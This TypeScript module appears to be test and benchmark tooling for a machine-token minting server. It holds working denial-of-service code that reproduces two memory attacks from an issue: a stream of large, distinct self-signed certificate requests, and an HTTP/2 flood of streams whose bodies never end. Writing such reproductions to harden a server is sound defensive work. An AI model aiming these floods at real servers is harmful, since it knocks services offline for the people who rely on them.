import { createPrivateKey, sign, webcrypto } from "node:crypto";
import { request } from "node:http";
import { type ClientHttp2Session, type ClientHttp2Stream, connect } from "node:http2";
import { create, toBinary } from "@bufbuild/protobuf";
import { timestampFromDate } from "@bufbuild/protobuf/wkt";
import {
  MachineTokenRequestSchema,
  MachineTokenType,
  MintMachineTokenRequestSchema,
  SignatureAlgorithm,
  TokenMinter,
} from "@luci-machine-tokend/core/gen";
import { PRPC_BINARY_CONTENT_TYPE } from "@luci-machine-tokend/core/protocol-prpc";
import { x509 } from "../x509.js";

/**
 * The two memory attacks of issue 20, as a test or the bench runs them against a dev server:
 * requests carrying large certificates no CA signed, each one different, and HTTP/2 streams whose
 * bodies never end.
 */

const PRPC_PATH = `/prpc/${TokenMinter.typeName}/${TokenMinter.method.mintMachineToken.name}`;
const GRPC_PATH = `/${TokenMinter.typeName}/${TokenMinter.method.mintMachineToken.name}`;

/**
 * Makes binary MintMachineTokenRequest bodies whose certificate is about `certificateBytes` long
 * (one opaque extension) and differs from every other one: self-signed, so untrusted, but the
 * request is signed with its key, so the server parses it, verifies the signature, and gets as
 * far as the trust check.
 */
export async function largeUntrustedRequests(
  certificateBytes: number,
): Promise<{ next(): Uint8Array; certificateBytes: number }> {
  const algorithm = { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" } as const;
  const keys = await webcrypto.subtle.generateKey(
    { ...algorithm, modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]) },
    true,
    ["sign", "verify"],
  );
  const filler = 0x61;
  const cert = await x509.X509CertificateGenerator.createSelfSigned({
    serialNumber: "01",
    name: "CN=attacker.example.com",
    keys,
    signingAlgorithm: algorithm,
    extensions: [
      new x509.Extension("1.3.6.1.4.1.11129.99", false, new Uint8Array(certificateBytes).fill(filler)),
    ],
  });
  const der = Buffer.from(cert.rawData);
  const key = createPrivateKey({
    key: Buffer.from(await webcrypto.subtle.exportKey("pkcs8", keys.privateKey)),
    format: "der",
    type: "pkcs8",
  });
  // Where the extension's bytes are: a counter written there makes each certificate new.
  const at = der.indexOf(Buffer.alloc(16, filler));
  let count = 0;
  return {
    certificateBytes: der.length,
    next() {
      der.writeUInt32BE(count++, at);
      const inner = toBinary(
        MachineTokenRequestSchema,
        create(MachineTokenRequestSchema, {
          certificate: der,
          signatureAlgorithm: SignatureAlgorithm.SHA256_RSA_ALGO,
          issuedAt: timestampFromDate(new Date()),
          tokenType: MachineTokenType.LUCI_MACHINE_TOKEN,
        }),
      );
      return toBinary(
        MintMachineTokenRequestSchema,
        create(MintMachineTokenRequestSchema, {
          serializedTokenRequest: inner,
          signature: sign("sha256", inner, key),
        }),
      );
    },
  };
}

/**
 * POSTs a binary pRPC MintMachineToken body over HTTP/1.1 to `backend` (`host:port`); resolves with
 * the HTTP status, the pRPC code and the body.
 */
export function postPrpc(
  backend: string,
  body: Uint8Array,
): Promise<{ status: number; grpcCode: string | undefined; body: Buffer }> {
  const [host, port] = backend.split(":");
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host,
        port: Number(port),
        method: "POST",
        path: PRPC_PATH,
        headers: { "Content-Type": PRPC_BINARY_CONTENT_TYPE, "Content-Length": body.length },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("error", reject);
        res.on("end", () =>
          resolve({
            status: res.statusCode ?? 0,
            grpcCode: res.headers["x-prpc-grpc-code"] as string | undefined,
            body: Buffer.concat(chunks),
          }),
        );
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

/** Options of {@link floodHttp2Streams}. */
export interface StreamFloodOptions {
  /** `http://host:port` of the HTTP/2 (h2c) listener. */
  url: string;
  connections: number;
  /** Streams kept open on each connection. */
  streamsPerConnection: number;
  /** Bytes each stream sends before it stalls (it never ends); 0: none at all. */
  bodyBytes: number;
}

/** A running flood. */
export interface StreamFlood {
  /** Streams opened so far (each refused or dropped one is replaced). */
  readonly opened: number;
  /** Streams the server answered (refused: the body never ended, so nothing else is answered). */
  readonly answered: number;
  /** Bytes written so far. */
  readonly bytesSent: number;
  stop(): void;
}

/**
 * Keeps `connections` × `streamsPerConnection` MintMachineToken streams open, each sending
 * `bodyBytes` as fast as flow control lets it and never ending; a stream the server answers or
 * closes is replaced at once, and so is a connection. Even connections speak pRPC, odd ones gRPC,
 * so both ways the server reads bodies are attacked. Writes follow backpressure, so the attacker
 * itself holds little memory. With `bodyBytes` 0 the streams send headers only: many small calls.
 */
export function floodHttp2Streams(options: StreamFloodOptions): StreamFlood {
  const chunk = Buffer.alloc(16 << 10, 0x41);
  let stopped = false;
  let opened = 0;
  let answered = 0;
  let bytesSent = 0;
  const sessions = new Set<ClientHttp2Session>();

  const openStream = (session: ClientHttp2Session, grpc: boolean) => {
    if (stopped || session.closed || session.destroyed) return;
    let stream: ClientHttp2Stream;
    try {
      stream = session.request(
        grpc
          ? { ":method": "POST", ":path": GRPC_PATH, "content-type": "application/grpc", te: "trailers" }
          : { ":method": "POST", ":path": PRPC_PATH, "content-type": PRPC_BINARY_CONTENT_TYPE },
      );
    } catch {
      return;
    }
    opened++;
    let replaced = false;
    const replace = () => {
      if (replaced) return;
      replaced = true;
      stream.destroy();
      setImmediate(() => openStream(session, grpc));
    };
    stream.on("response", () => {
      answered++;
      replace();
    });
    stream.on("close", replace);
    stream.on("error", () => {});
    stream.resume();
    let sent = 0;
    if (grpc && options.bodyBytes > 0) {
      // A valid envelope announcing one message as long as the body, so the server reads on.
      const envelope = Buffer.alloc(5);
      envelope.writeUInt32BE(options.bodyBytes - 5, 1);
      stream.write(envelope);
      sent = envelope.length;
      bytesSent += envelope.length;
    }
    const pump = () => {
      while (!stopped && !stream.destroyed && sent < options.bodyBytes) {
        const piece = chunk.subarray(0, Math.min(chunk.length, options.bodyBytes - sent));
        sent += piece.length;
        bytesSent += piece.length;
        if (!stream.write(piece)) return void stream.once("drain", pump);
      }
    };
    pump();
  };

  const openSession = (index: number) => {
    if (stopped) return;
    const session = connect(options.url);
    sessions.add(session);
    session.on("error", () => {});
    session.once("close", () => {
      sessions.delete(session);
      if (!stopped) setTimeout(() => openSession(index), 50);
    });
    for (let i = 0; i < options.streamsPerConnection; i++) openStream(session, index % 2 === 1);
  };
  for (let i = 0; i < options.connections; i++) openSession(i);

  return {
    get opened() {
      return opened;
    },
    get answered() {
      return answered;
    },
    get bytesSent() {
      return bytesSent;
    },
    stop() {
      stopped = true;
      for (const session of sessions) session.destroy();
      sessions.clear();
    },
  };
}
